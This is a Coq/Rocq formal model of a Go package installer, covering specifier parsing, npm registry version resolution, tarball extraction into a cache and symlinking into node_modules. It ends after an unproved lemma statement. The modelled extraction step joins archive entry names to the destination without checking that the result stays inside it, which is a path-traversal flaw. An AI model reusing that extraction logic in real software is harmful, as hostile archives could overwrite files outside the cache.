(** * goose: a minimal package installer (package [pkg] and [main])

    A shallow embedding of [pkg.Parse], [pkg.Install], [pkg.resolvePackage],
    [pkg.getCachePath], [pkg.downloadAndExtract] and of [main], with the
    properties of the resolution-and-installation engine proved about it.

    Go strings are byte strings: [string] of the Standard Library.  The Go
    maps that are only looked up are [gmap]s; the two maps the program
    ranges over are association lists, in the order the run visits them. *)

From Stdlib Require Import ZArith Ascii String List Lia.
From stdpp Require Import base option list gmap strings pretty.

Local Open Scope Z_scope.

(** ** Package [strings] *)

Module strings.

(** [strings.HasPrefix(s, prefix)]. *)
Fixpoint HasPrefix (s prefix : string) {struct prefix} : bool :=
  match prefix, s with
  | EmptyString, _ => true
  | String c p', String d s' => Ascii.eqb c d && HasPrefix s' p'
  | String _ _, EmptyString => false
  end.

(** [s[n:]], for [n] within the string. *)
Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S n', String _ s' => drop n' s'
  | S _, EmptyString => EmptyString
  end.

(** [s[:n]], for [n] within the string. *)
Fixpoint take (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => EmptyString
  | S n', String c s' => String c (take n' s')
  | S _, EmptyString => EmptyString
  end.

(** [strings.Index(s, substr)]: the first position, or [-1]. *)
Fixpoint Index (s substr : string) : Z :=
  if HasPrefix s substr then 0
  else match s with
       | EmptyString => -1
       | String _ s' =>
           let i := Index s' substr in
           if i <? 0 then -1 else i + 1
       end.

(** [strings.LastIndex(s, substr)]: the last position, or [-1]. *)
Fixpoint LastIndex (s substr : string) : Z :=
  match s with
  | EmptyString => if HasPrefix s substr then 0 else -1
  | String _ s' =>
      let i := LastIndex s' substr in
      if 0 <=? i then i + 1
      else if HasPrefix s substr then 0 else -1
  end.

(** [strings.Contains(s, substr)]. *)
Definition Contains (s substr : string) : bool := 0 <=? Index s substr.

(** [strings.Count(s, substr)] for a non-empty [substr]: the number of
    non-overlapping occurrences. *)
Fixpoint Count_go (fuel : nat) (s substr : string) : Z :=
  match fuel with
  | O => 0
  | S fuel' =>
      let i := Index s substr in
      if i <? 0 then 0
      else 1 + Count_go fuel' (drop (Z.to_nat i + String.length substr) s) substr
  end.

Definition Count (s substr : string) : Z :=
  Count_go (S (String.length s)) s substr.

(** [strings.SplitN(s, sep, n)] for [n >= 0] and a non-empty [sep]. *)
Fixpoint SplitN (s sep : string) (n : nat) : list string :=
  match n with
  | O => []
  | S O => [s]
  | S n' =>
      let i := Index s sep in
      if i <? 0 then [s]
      else take (Z.to_nat i) s
             :: SplitN (drop (Z.to_nat i + String.length sep) s) sep n'
  end.

(** [strings.ReplaceAll(s, old, new)] for a non-empty [old]. *)
Fixpoint ReplaceAll_go (fuel : nat) (s old new : string) : string :=
  match fuel with
  | O => s
  | S fuel' =>
      let i := Index s old in
      if i <? 0 then s
      else take (Z.to_nat i) s +:+ new
             +:+ ReplaceAll_go fuel' (drop (Z.to_nat i + String.length old) s) old new
  end.

Definition ReplaceAll (s old new : string) : string :=
  ReplaceAll_go (S (String.length s)) s old new.

(** [strings.TrimPrefix(s, prefix)]. *)
Definition TrimPrefix (s prefix : string) : string :=
  if HasPrefix s prefix then drop (String.length prefix) s else s.

(** [strings.Join(elems, sep)]. *)
Fixpoint Join (elems : list string) (sep : string) : string :=
  match elems with
  | [] => ""
  | [e] => e
  | e :: rest => e +:+ sep +:+ Join rest sep
  end.

End strings.

(** ** Errors and results *)

(** A Go [error]: [errors.New(msg)], or [fmt.Errorf(prefix + ": %w", cause)]. *)
Inductive error : Type :=
  | New (msg : string)
  | Wrap (prefix : string) (cause : error).

(** [err.Error()]. *)
Fixpoint Error (e : error) : string :=
  match e with
  | New msg => msg
  | Wrap prefix cause => prefix +:+ ": " +:+ Error cause
  end.

(** A Go pair [(value, error)] in which exactly one side is meaningful. *)
Inductive result (A : Type) : Type :=
  | Ok (a : A)
  | Err (e : error).
Arguments Ok {A} a.
Arguments Err {A} e.

(** ** The specifier parser *)

Record PackageInfo : Type := mkPackageInfo { Name : string; Version : string }.

Definition EmptyInput : error := New "package name cannot be empty".
Definition EmptyName : error := New "package name cannot be empty before '@'".
Definition InvalidScopedSpecifier : error := New "invalid scoped package".
Definition InvalidScopedName : error := New "invalid scoped package name".
Definition ContainsWhitespace : error := New "package name cannot contain spaces".

(** [pkg.Parse].  [None] stands for the run-time panic of an index that is
    out of range in [parts]. *)
Definition Parse (arg : string) : option (result PackageInfo) :=
  if String.eqb arg "" then Some (Err EmptyInput)
  else if strings.Contains arg "@" && negb (strings.HasPrefix arg "@") then
    let parts := strings.SplitN arg "@" 2 in
    p0 ← parts !! 0%nat;
    if String.eqb p0 "" then Some (Err EmptyName)
    else p1 ← parts !! 1%nat;
         Some (Ok (mkPackageInfo p0 p1))
  else if strings.HasPrefix arg "@" then
    let at_ := strings.LastIndex arg "@" in
    if 0 <? at_ then
      let name := strings.take (Z.to_nat at_) arg in
      if String.eqb name "" then Some (Err InvalidScopedSpecifier)
      else Some (Ok (mkPackageInfo name (strings.drop (Z.to_nat (at_ + 1)) arg)))
    else if strings.Count arg "/" <? 1 then Some (Err InvalidScopedName)
    else Some (Ok (mkPackageInfo arg "latest"))
  else if strings.Contains arg " " then Some (Err ContainsWhitespace)
  else Some (Ok (mkPackageInfo arg "latest")).

(** ** Package [path/filepath] (Unix) *)

Module filepath.

(** The path elements between separators: ["a//b"] gives [["a"; ""; "b"]]. *)
Fixpoint elements (p : string) : list string :=
  match p with
  | EmptyString => [EmptyString]
  | String c p' =>
      if Ascii.eqb c "/" then EmptyString :: elements p'
      else match elements p' with
           | e :: rest => String c e :: rest
           | [] => [String c EmptyString]
           end
  end.

(** The loop of [filepath.Clean]: [out] is the cleaned path so far, last
    element first.  A [".."] backs up over the previous element unless that
    is itself a [".."] that could not be removed. *)
Fixpoint clean_go (rooted : bool) (elems out : list string) : list string :=
  match elems with
  | [] => rev out
  | e :: rest =>
      if String.eqb e "" || String.eqb e "." then clean_go rooted rest out
      else if String.eqb e ".." then
        match out with
        | top :: out' =>
            if String.eqb top ".." then clean_go rooted rest (e :: out)
            else clean_go rooted rest out'
        | [] => if rooted then clean_go rooted rest [] else clean_go rooted rest [e]
        end
      else clean_go rooted rest (e :: out)
  end.

(** [filepath.Clean(path)]. *)
Definition Clean (path : string) : string :=
  if String.eqb path "" then "."
  else
    let rooted := strings.HasPrefix path "/" in
    let body := strings.Join (clean_go rooted (elements path) []) "/" in
    if rooted then "/" +:+ body
    else if String.eqb body "" then "." else body.

(** [filepath.Join(elem...)]: leading empty elements are dropped, the rest
    is joined with the separator and cleaned. *)
Fixpoint Join (elem : list string) : string :=
  match elem with
  | [] => ""
  | e :: rest => if String.eqb e "" then Join rest else Clean (strings.Join elem "/")
  end.

(** [filepath.Dir(path)]: all but the last element, cleaned. *)
Definition Dir (path : string) : string :=
  Clean (strings.take (Z.to_nat (strings.LastIndex path "/" + 1)) path).

End filepath.

(** ** Package [semver] (github.com/Masterminds/semver/v3)

    The library is not part of this repository: the engine is stated over
    its interface. *)

Class Semver : Type := {
  SemVersion : Type;
  Constraints : Type;
  (** [semver.NewVersion(v)] *)
  NewVersion : string -> result SemVersion;
  (** [semver.NewConstraint(c)] *)
  NewConstraint : string -> result Constraints;
  (** [constraint.Check(ver)] *)
  Constraints_Check : Constraints -> SemVersion -> bool;
  (** [ver.GreaterThan(other)] *)
  GreaterThan : SemVersion -> SemVersion -> bool
}.

(** What the engine relies on: [GreaterThan] is a strict order, and the empty
    string is not a version. *)
Class SemverLaws (SV : Semver) : Prop := {
  GreaterThan_irrefl : forall v, GreaterThan v v = false;
  GreaterThan_trans : forall a b c,
    GreaterThan a b = true -> GreaterThan b c = true -> GreaterThan a c = true;
  NewVersion_empty : forall v, NewVersion "" <> Ok v
}.

(** ** Registry documents, archives and HTTP responses *)

(** One element of [PackageMeta.Versions]: [Dist.Tarball] and
    [Dependencies], the latter in the order [range] visits it. *)
Record VersionInfo : Type := mkVersionInfo {
  Tarball : string;
  Dependencies : list (string * string)
}.

(** [PackageMeta].  [Versions] lists the map in the order [range] visits
    it; [assoc] is its lookup. *)
Record PackageMeta : Type := mkPackageMeta {
  DistTags : gmap string string;
  Versions : list (string * VersionInfo)
}.

Fixpoint assoc {A : Type} (k : string) (m : list (string * A)) : option A :=
  match m with
  | [] => None
  | (k', a) :: m' => if String.eqb k k' then Some a else assoc k m'
  end.

(** A [tar.Header] as the extraction reads it, with the entry's bytes. *)
Record TarEntry : Type := mkTarEntry {
  hdr_Name : string;
  hdr_IsDir : bool;        (* hdr.FileInfo().IsDir() *)
  hdr_Mode : N;            (* hdr.FileInfo().Mode() *)
  Data : string
}.

(** What [tar.Reader.Next] yields: the entries, then [io.EOF] ([None]) or a
    read error. *)
Record TarStream : Type := mkTarStream {
  entries : list TarEntry;
  tar_end : option error
}.

(** A response body, through the two decoders applied to it. *)
Record Body : Type := mkBody {
  json_Decode : result PackageMeta;   (* json.NewDecoder(body).Decode(&meta) *)
  gzip_tar : result TarStream         (* tar.NewReader(gzip.NewReader(body)) *)
}.

Record Response : Type := mkResponse { StatusCode : Z; RespBody : Body }.

Definition StatusOK : Z := 200.

(** ** The process state and its surroundings *)

Inductive Node : Type :=
  | File (data : string)
  | Dir (perm : N)
  | Symlink (target : string).

(** An injected failure of a file-system call: its error, and for a copy
    the number of bytes that reached the file before it. *)
Record Fault : Type := mkFault { fault_err : error; fault_written : nat }.

(** What the run does not control: the answer to the [n]-th HTTP request,
    the failure (if any) of the [n]-th mutating file-system call, the user
    cache directory, and the error (if any, and other than "not exist":
    a permission that is missing, an I/O error) with which [os.Stat] of a
    path fails after [n] mutating file-system calls. *)
Record Env : Type := mkEnv {
  env_http : nat -> string -> result Response;
  env_fault : nat -> option Fault;
  env_UserCacheDir : result string;
  env_stat : nat -> string -> option error
}.

(** What the run changes: the package variable [installed], the files (by
    literal path: the mutating calls do not resolve links on the way to a
    path, [os.Stat] does), the lines printed, the URLs requested so far and
    the count of mutating file-system calls. *)
Record World : Type := mkWorld {
  installed : gmap string bool;
  fs : gmap string Node;
  stdout : list string;
  requests : list string;
  fs_calls : nat
}.

Definition set_installed (f : gmap string bool -> gmap string bool) (w : World) : World :=
  mkWorld (f (installed w)) (fs w) (stdout w) (requests w) (fs_calls w).
Definition set_fs (f : gmap string Node -> gmap string Node) (w : World) : World :=
  mkWorld (installed w) (f (fs w)) (stdout w) (requests w) (fs_calls w).
Definition set_stdout (f : list string -> list string) (w : World) : World :=
  mkWorld (installed w) (fs w) (f (stdout w)) (requests w) (fs_calls w).
Definition set_requests (f : list string -> list string) (w : World) : World :=
  mkWorld (installed w) (fs w) (stdout w) (f (requests w)) (fs_calls w).
Definition tick (w : World) : World :=
  mkWorld (installed w) (fs w) (stdout w) (requests w) (S (fs_calls w)).

(** Computations over the world.  [None]: the call does not return (the
    recursion of [Install] is deeper than the fuel given). *)
Definition M (A : Type) : Type := World -> option (A * World).

Definition ret {A : Type} (a : A) : M A := fun w => Some (a, w).

Definition bind {A B : Type} (m : M A) (k : A -> M B) : M B :=
  fun w => match m w with
           | Some (a, w') => k a w'
           | None => None
           end.

Notation "'let*' x ':=' m 'in' k" := (bind m (fun x => k))
  (at level 10, x pattern, m at level 100, k at level 200).
Notation "m ';;' k" := (bind m (fun _ => k))
  (at level 100, k at level 200, right associativity).

(** [fmt.Printf] and [fmt.Println] of one line (the newline left out). *)
Definition Println (line : string) : M unit :=
  fun w => Some (tt, set_stdout (fun out => out ++ [line]) w).

(** ** Package [os] and [io]: the file-system calls of the engine *)

Definition ENOTDIR : error := New "not a directory".
Definition ENOENT : error := New "no such file or directory".
Definition EISDIR : error := New "is a directory".
Definition EEXIST : error := New "file exists".
Definition EINVAL : error := New "invalid argument".
Definition ELOOP : error := New "too many levels of symbolic links".

(** The paths that always name a directory: ["."], ["/"] and a path whose
    last element is [".."]. *)
Definition is_dots (p : string) : bool :=
  String.eqb p "." || String.eqb p "/"
  || match rev (filepath.elements p) with
     | e :: _ => String.eqb e ".."
     | [] => false
     end.

(** The entry at a path. *)
Definition node (files : gmap string Node) (p : string) : option Node :=
  if is_dots p then Some (Dir 493) else files !! p.

Definition is_dir (files : gmap string Node) (p : string) : bool :=
  match node files p with
  | Some (Dir _) => true
  | _ => false
  end.

Fixpoint prefixes (acc : string) (elems : list string) : list string :=
  match elems with
  | [] => []
  | e :: rest => (acc +:+ e) :: prefixes (acc +:+ e +:+ "/") rest
  end.

(** A path's directories from the top down, the path itself last. *)
Definition ancestors (p : string) : list string :=
  prefixes (if strings.HasPrefix p "/" then "/" else "")
    (List.filter (fun e => negb (String.eqb e "" || String.eqb e "."))
       (filepath.elements p)).

(** The loop of [os.MkdirAll]: every missing directory on the way is made;
    an entry that is not a directory stops it. *)
Fixpoint mkdir_each (paths : list string) (perm : N) (files : gmap string Node)
  : result (gmap string Node) :=
  match paths with
  | [] => Ok files
  | p :: rest =>
      match node files p with
      | Some (Dir _) => mkdir_each rest perm files
      | Some _ => Err ENOTDIR
      | None => mkdir_each rest perm (<[p := Dir perm]> files)
      end
  end.

(** What [os.Stat] returns: the entry, the error that [os.IsNotExist]
    recognises, or another error. *)
Inductive Stat : Type :=
  | StatOk (n : Node)
  | StatNotExist
  | StatErr (e : error).

(** One pass over the directories of a path, from the top down: it ends
    with the answer, or at a link with the path to go on with (the target of
    the link, taken from the directory of the link when it is relative,
    followed by what was left of the path). *)
Inductive Walk : Type :=
  | Arrived (s : Stat)
  | Via (path : string).

Fixpoint walk (files : gmap string Node) (path : string) (keys : list string) : Walk :=
  match keys with
  | [] =>
      Arrived (match node files path with
               | Some n => StatOk n
               | None => StatNotExist
               end)
  | k :: rest =>
      match node files k with
      | None => Arrived StatNotExist
      | Some (Dir perm) =>
          match rest with
          | [] => Arrived (StatOk (Dir perm))
          | _ :: _ => walk files path rest
          end
      | Some (File data) =>
          match rest with
          | [] => Arrived (StatOk (File data))
          | _ :: _ => Arrived (StatErr ENOTDIR)
          end
      | Some (Symlink target) =>
          if String.eqb target "" then Arrived StatNotExist
          else
            Via (filepath.Join
                   [if strings.HasPrefix target "/" then target
                    else filepath.Join [filepath.Dir k; target];
                    strings.drop (String.length k + 1) (List.last rest k)])
      end
  end.

(** The resolution of a path, through at most [links] links. *)
Fixpoint stat_follow (links : nat) (files : gmap string Node) (path : string) : Stat :=
  match walk files path (ancestors path) with
  | Arrived s => s
  | Via path' =>
      match links with
      | O => StatErr ELOOP
      | S links' => stat_follow links' files path'
      end
  end.

Section engine.
Context {SV : Semver} (env : Env).

(** [os.Stat(name)]: links are followed, on the way and at the end. *)
Definition os_Stat (name : string) (w : World) : Stat :=
  match env_stat env (fs_calls w) name with
  | Some e => StatErr e
  | None => stat_follow 40 (fs w) name
  end.

(** A mutating file-system call: it fails as the surroundings say, and
    otherwise as the files decide. *)
Definition fs_call (op : gmap string Node -> result (gmap string Node)) : M (result unit) :=
  fun w =>
    match env_fault env (fs_calls w) with
    | Some f => Some (Err (fault_err f), tick w)
    | None =>
        match op (fs w) with
        | Ok files => Some (Ok tt, tick (set_fs (fun _ => files) w))
        | Err e => Some (Err e, tick w)
        end
    end.

(** [os.Stat(name)] followed by [os.IsNotExist(err)]. *)
Definition os_Stat_IsNotExist (name : string) : M bool :=
  fun w => Some (match os_Stat name w with StatNotExist => true | _ => false end, w).

(** [os.MkdirAll(path, perm)]. *)
Definition os_MkdirAll (path : string) (perm : N) : M (result unit) :=
  fs_call (mkdir_each (ancestors path) perm).

(** [os.Create(name)]: the file is made or truncated; its directory must
    exist, and the name must not be a directory (nor, here, a link). *)
Definition os_Create (name : string) : M (result unit) :=
  fs_call (fun files =>
    if negb (is_dir files (filepath.Dir name)) then Err ENOENT
    else match node files name with
         | Some (Dir _) => Err EISDIR
         | Some (Symlink _) => Err EINVAL
         | Some (File _) | None => Ok (<[name := File ""]> files)
         end).

(** [io.Copy(f, tr)] into the file just created at [name]: all of [data],
    or on failure the bytes written before it. *)
Definition io_Copy (name : string) (data : string) : M (result unit) :=
  fun w =>
    match env_fault env (fs_calls w) with
    | Some f =>
        Some (Err (fault_err f),
              tick (set_fs (fun files => <[name := File (strings.take (fault_written f) data)]> files) w))
    | None => Some (Ok tt, tick (set_fs (fun files => <[name := File data]> files) w))
    end.

(** [os.RemoveAll(path)]: the entry and everything below it. *)
Definition os_RemoveAll (path : string) : M (result unit) :=
  fs_call (fun files =>
    if String.eqb path "" then Ok files
    else if String.eqb path "." then Err EINVAL
    else Ok (filter (fun kv => negb (String.eqb kv.1 path
                                     || strings.HasPrefix kv.1 (path +:+ "/")) = true) files)).

(** [os.Symlink(oldname, newname)]. *)
Definition os_Symlink (oldname newname : string) : M (result unit) :=
  fs_call (fun files =>
    match node files newname with
    | Some _ => Err EEXIST
    | None =>
        if is_dir files (filepath.Dir newname)
        then Ok (<[newname := Symlink oldname]> files)
        else Err ENOENT
    end).

(** [http.Get(url)]. *)
Definition http_Get (url : string) : M (result Response) :=
  fun w => Some (env_http env (length (requests w)) url,
                 set_requests (fun log => log ++ [url]) w).

(** ** The registry resolver *)

(** The double quote, for [%q] (escapes inside the text are left out). *)
Definition dquote : string := String (ascii_of_nat 34) EmptyString.

Definition MetadataFetchError (e : error) : error := Wrap "fetch metadata" e.
Definition UnexpectedStatus (code : Z) : error :=
  New ("unexpected status code " +:+ pretty code).
Definition MetadataDecodeError (e : error) : error := Wrap "decode metadata" e.
Definition InvalidConstraint (version : string) (e : error) : error :=
  Wrap ("invalid version constraint " +:+ dquote +:+ version +:+ dquote) e.
Definition NoMatchingVersion (pkg : PackageInfo) : error :=
  New ("no matching version found for " +:+ Name pkg +:+ "@" +:+ Version pkg).

(** What [resolvePackage] returns beside the error. *)
Record Resolution : Type := mkResolution {
  resolved : string;
  tarball : string;
  deps : list (string * string)
}.

(** [meta.Versions[v]] read as a value: the zero value when [v] is no key. *)
Definition Versions_at (meta : PackageMeta) (v : string) : VersionInfo :=
  default (mkVersionInfo "" []) (assoc v (Versions meta)).

(** One turn of the loop over [meta.Versions]; the state is
    [(matchedVersion, matchedSemver)]. *)
Definition scan_step (constraint : Constraints)
    (matched : string * option SemVersion) (v : string) : string * option SemVersion :=
  match NewVersion v with
  | Err _ => matched
  | Ok ver =>
      if Constraints_Check constraint ver then
        match matched.2 with
        | None => (v, Some ver)
        | Some m => if GreaterThan ver m then (v, Some ver) else matched
        end
      else matched
  end.

Definition scan (constraint : Constraints) (keys : list string) : string * option SemVersion :=
  fold_left (scan_step constraint) keys ("", None).

(** The selector after the dist-tag step (lines 135 to 138). *)
Definition tagged (meta : PackageMeta) (version : string) : string :=
  match DistTags meta !! version with
  | Some tag => tag
  | None => version
  end.

(** [resolvePackage] from the decoded document on (lines 135 to 170). *)
Definition resolveVersion (pkg : PackageInfo) (meta : PackageMeta) : result Resolution :=
  let version := tagged meta (Version pkg) in
  match assoc version (Versions meta) with
  | Some vinfo => Ok (mkResolution version (Tarball vinfo) (Dependencies vinfo))
  | None =>
      match NewConstraint version with
      | Err e => Err (InvalidConstraint version e)
      | Ok constraint =>
          let matchedVersion := (scan constraint (map fst (Versions meta))).1 in
          if String.eqb matchedVersion "" then Err (NoMatchingVersion pkg)
          else
            let vinfo := Versions_at meta matchedVersion in
            Ok (mkResolution matchedVersion (Tarball vinfo) (Dependencies vinfo))
      end
  end.

(** [resolvePackage]. *)
Definition resolvePackage (pkg : PackageInfo) : M (result Resolution) :=
  let encoded := if strings.HasPrefix (Name pkg) "@"
                 then strings.ReplaceAll (Name pkg) "/" "%2F"
                 else Name pkg in
  let* r := http_Get ("https://registry.npmjs.org/" +:+ encoded) in
  match r with
  | Err e => ret (Err (MetadataFetchError e))
  | Ok resp =>
      if negb (StatusCode resp =? StatusOK) then ret (Err (UnexpectedStatus (StatusCode resp)))
      else match json_Decode (RespBody resp) with
           | Err e => ret (Err (MetadataDecodeError e))
           | Ok meta => ret (resolveVersion pkg meta)
           end
  end.

(** ** The cache store *)

(** [getCachePath]. *)
Definition getCachePath (pkg : PackageInfo) : result string :=
  match env_UserCacheDir env with
  | Err e => Err (Wrap "get user cache dir" e)
  | Ok cacheDir =>
      let safe := strings.ReplaceAll (Name pkg) "/" "_" in
      Ok (filepath.Join [cacheDir; "npm-go"; safe; Version pkg])
  end.

(** The extraction target of an entry name that carries the prefix. *)
Definition target_of (dest name : string) : string :=
  filepath.Join [dest; strings.TrimPrefix name "package/"].

(** The body of the loop of [downloadAndExtract] for one entry. *)
Definition extract_entry (dest : string) (en : TarEntry) : M (result unit) :=
  if negb (strings.HasPrefix (hdr_Name en) "package/") then ret (Ok tt)
  else
    let target := target_of dest (hdr_Name en) in
    if hdr_IsDir en then
      let* r := os_MkdirAll target (hdr_Mode en) in
      match r with
      | Err e => ret (Err (Wrap ("mkdir " +:+ target) e))
      | Ok _ => ret (Ok tt)
      end
    else
      let* r := os_MkdirAll (filepath.Dir target) 493 in
      match r with
      | Err e => ret (Err (Wrap ("mkdir parent " +:+ target) e))
      | Ok _ =>
          let* r := os_Create target in
          match r with
          | Err e => ret (Err (Wrap ("create file " +:+ target) e))
          | Ok _ =>
              let* r := io_Copy target (Data en) in
              match r with
              | Err e => ret (Err (Wrap ("copy to " +:+ target) e))
              | Ok _ => ret (Ok tt)
              end
          end
      end.

(** The loop of [downloadAndExtract] over the archive. *)
Fixpoint extract (dest : string) (ens : list TarEntry) (fin : option error) : M (result unit) :=
  match ens with
  | [] =>
      match fin with
      | None => ret (Ok tt)
      | Some e => ret (Err (Wrap "read tar" e))
      end
  | en :: rest =>
      let* r := extract_entry dest en in
      match r with
      | Err e => ret (Err e)
      | Ok _ => extract dest rest fin
      end
  end.

Definition ArchiveFetchError (e : error) : error := Wrap "http get" e.
Definition DecompressionError (e : error) : error := Wrap "gzip reader" e.

(** [downloadAndExtract]. *)
Definition downloadAndExtract (url dest : string) : M (result unit) :=
  let* r := http_Get url in
  match r with
  | Err e => ret (Err (ArchiveFetchError e))
  | Ok resp =>
      match gzip_tar (RespBody resp) with
      | Err e => ret (Err (DecompressionError e))
      | Ok tr => extract dest (entries tr) (tar_end tr)
      end
  end.

(** ** The install orchestrator *)

(** The memo key of [Install]: [pkg.Name + "@" + pkg.Version]. *)
Definition memo_key (pkg : PackageInfo) : string := Name pkg +:+ "@" +:+ Version pkg.

(** [installed[key]] read: [false] when [key] is no key. *)
Definition is_installed (key : string) : M bool :=
  fun w => Some (default false (installed w !! key), w).

(** [installed[key] = true]. *)
Definition mark_installed (key : string) : M unit :=
  fun w => Some (tt, set_installed (fun m => <[key := true]> m) w).

(** The cache-or-fetch step of [Install] (lines 87 to 92). *)
Definition ensureCached (key url cachePath : string) : M (result unit) :=
  let* missing := os_Stat_IsNotExist cachePath in
  if missing then
    Println ("Downloading " +:+ url +:+ "...") ;;
    let* r := downloadAndExtract url cachePath in
    match r with
    | Err e => ret (Err (Wrap ("download and extract " +:+ key) e))
    | Ok _ => ret (Ok tt)
    end
  else ret (Ok tt).

(** The install location of a package name. *)
Definition linkPath_of (name : string) : string := filepath.Join ["node_modules"; name].

(** The two errors of the link step. *)
Definition LinkError_mkdir (linkPath : string) (e : error) : error :=
  Wrap ("create parent dir for " +:+ linkPath) e.
Definition LinkError_symlink (cachePath linkPath : string) (e : error) : error :=
  Wrap ("symlink " +:+ cachePath +:+ " -> " +:+ linkPath) e.

(** The link step of [Install] (lines 94 to 101). *)
Definition link (name cachePath : string) : M (result unit) :=
  let linkPath := linkPath_of name in
  let* _ := os_RemoveAll linkPath in
  let* r := os_MkdirAll (filepath.Dir linkPath) 493 in
  match r with
  | Err e => ret (Err (LinkError_mkdir linkPath e))
  | Ok _ =>
      let* r := os_Symlink cachePath linkPath in
      match r with
      | Err e => ret (Err (LinkError_symlink cachePath linkPath e))
      | Ok _ => ret (Ok tt)
      end
  end.

(** The loop of [Install] over [deps] (lines 105 to 109), [install] being
    the recursive call. *)
Fixpoint installDeps (install : PackageInfo -> M (result unit))
    (ds : list (string * string)) : M (result unit) :=
  match ds with
  | [] => ret (Ok tt)
  | (dep, depVer) :: rest =>
      let* r := install (mkPackageInfo dep depVer) in
      match r with
      | Err e => ret (Err (Wrap ("install dep " +:+ dep +:+ "@" +:+ depVer) e))
      | Ok _ => installDeps install rest
      end
  end.

(** [Install] past the memo check (lines 75 to 111). *)
Definition Install_work (install : PackageInfo -> M (result unit))
    (pkg : PackageInfo) : M (result unit) :=
  let key := memo_key pkg in
  Println ("Resolving " +:+ Name pkg +:+ "@" +:+ Version pkg +:+ "...") ;;
  let* r := resolvePackage pkg in
  match r with
  | Err e => ret (Err (Wrap ("resolve " +:+ key) e))
  | Ok res =>
      let resolvedPkg := mkPackageInfo (Name pkg) (resolved res) in
      match getCachePath resolvedPkg with
      | Err e => ret (Err (Wrap ("get cache path for " +:+ key) e))
      | Ok cachePath =>
          let* r := ensureCached key (tarball res) cachePath in
          match r with
          | Err e => ret (Err e)
          | Ok _ =>
              let* r := link (Name pkg) cachePath in
              match r with
              | Err e => ret (Err e)
              | Ok _ =>
                  Println ("Linked " +:+ Name pkg +:+ "@" +:+ resolved res) ;;
                  installDeps install (deps res)
              end
          end
      end
  end.

(** [Install].  The fuel bounds the depth of the recursion. *)
Fixpoint Install (fuel : nat) (pkg : PackageInfo) : M (result unit) :=
  match fuel with
  | O => fun _ => None
  | S fuel' =>
      let key := memo_key pkg in
      let* seen := is_installed key in
      if seen then ret (Ok tt)
      else mark_installed key ;; Install_work (Install fuel') pkg
  end.

(** ** The command line ([main]) *)

Definition usage_line : string := "Usage: goose <package[@version]> [...]".
Definition completion_line : string := "All packages installed.".
Definition parse_error_line (arg : string) (e : error) : string :=
  "Error parsing package '" +:+ arg +:+ "': " +:+ Error e.
Definition install_error_line (pkg : PackageInfo) (e : error) : string :=
  "Error installing package '" +:+ Name pkg +:+ "': " +:+ Error e.

(** The body of the loop of [main] for one argument. *)
Definition main_arg (fuel : nat) (arg : string) : M unit :=
  match Parse arg with
  | None => fun _ => None
  | Some (Err e) => Println (parse_error_line arg e)
  | Some (Ok pkg) =>
      let* r := Install fuel pkg in
      match r with
      | Err e => Println (install_error_line pkg e)
      | Ok _ => ret tt
      end
  end.

Fixpoint main_loop (fuel : nat) (args : list string) : M unit :=
  match args with
  | [] => ret tt
  | arg :: rest => main_arg fuel arg ;; main_loop fuel rest
  end.

(** [main], [Args] being [os.Args] (the program name first). *)
Definition main (fuel : nat) (Args : list string) : M unit :=
  if (length Args <? 2)%nat then Println usage_line
  else main_loop fuel (tail Args) ;; Println completion_line.

(** The process: when [main] returns, the exit status is 0. *)
Definition run (fuel : nat) (Args : list string) (w : World) : option (Z * World) :=
  match main fuel Args w with
  | Some (_, w') => Some (0, w')
  | None => None
  end.

End engine.

(** ** A small instance of the [semver] interface

    Versions are triples [major.minor.patch] of decimal numbers, compared
    left to right; constraints are [^major.minor.patch] and [major.x].
    It serves to run the engine on concrete registries. *)

Module triples.

Definition digit (c : ascii) : option nat :=
  let n := nat_of_ascii c in
  if (48 <=? n)%nat && (n <=? 57)%nat then Some (n - 48)%nat else None.

Fixpoint number_go (acc : nat) (s : string) : option nat :=
  match s with
  | EmptyString => Some acc
  | String c s' =>
      match digit c with
      | Some d => number_go (10 * acc + d) s'
      | None => None
      end
  end.

Definition number (s : string) : option nat :=
  if String.eqb s "" then None else number_go 0 s.

Fixpoint fields (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c "." then EmptyString :: fields s'
      else match fields s' with
           | f :: rest => String c f :: rest
           | [] => [String c EmptyString]
           end
  end.

Definition version : Type := nat * nat * nat.

Inductive constraint : Type :=
  | Caret (v : version)
  | MajorX (major : nat).

Definition parse_version (s : string) : result version :=
  match fields s with
  | [a; b; c] =>
      match number a, number b, number c with
      | Some x, Some y, Some z => Ok (x, y, z)
      | _, _, _ => Err (New "Invalid Semantic Version")
      end
  | _ => Err (New "Invalid Semantic Version")
  end.

Definition parse_constraint (s : string) : result constraint :=
  if strings.HasPrefix s "^" then
    match parse_version (strings.drop 1 s) with
    | Ok v => Ok (Caret v)
    | Err _ => Err (New "improper constraint")
    end
  else
    match fields s with
    | [a; b] =>
        match number a with
        | Some x => if String.eqb b "x" then Ok (MajorX x) else Err (New "improper constraint")
        | None => Err (New "improper constraint")
        end
    | _ => Err (New "improper constraint")
    end.

Definition gt (a b : version) : bool :=
  let '(a1, a2, a3) := a in
  let '(b1, b2, b3) := b in
  (b1 <? a1)%nat
  || (Nat.eqb a1 b1 && ((b2 <? a2)%nat || (Nat.eqb a2 b2 && (b3 <? a3)%nat))).

(** The first version past the range of [^v]: the left-most non-zero
    number goes up by one. *)
Definition caret_bound (v : version) : version :=
  let '(x, y, z) := v in
  if (0 <? x)%nat then (S x, 0, 0)%nat
  else if (0 <? y)%nat then (0, S y, 0)%nat
  else (0, 0, S z)%nat.

Definition check (c : constraint) (v : version) : bool :=
  match c with
  | Caret lo => negb (gt lo v) && gt (caret_bound lo) v
  | MajorX m => Nat.eqb v.1.1 m
  end.

#[global] Instance semver : Semver := {|
  SemVersion := version;
  Constraints := constraint;
  NewVersion := parse_version;
  NewConstraint := parse_constraint;
  Constraints_Check := check;
  GreaterThan := gt
|}.

End triples.

(** * Verification *)

(** ** Facts about the string primitives, for a one-byte separator *)

Lemma append_cons d s t : String d s +:+ t = String d (s +:+ t).
Proof. reflexivity. Qed.

Lemma append_nil t : "" +:+ t = t.
Proof. reflexivity. Qed.

Section one_byte_separator.
Variable c : ascii.
Local Abbreviation sep := (String c EmptyString).

Lemma HasPrefix_sep s :
  strings.HasPrefix s sep
  = match s with String d _ => Ascii.eqb c d | EmptyString => false end.
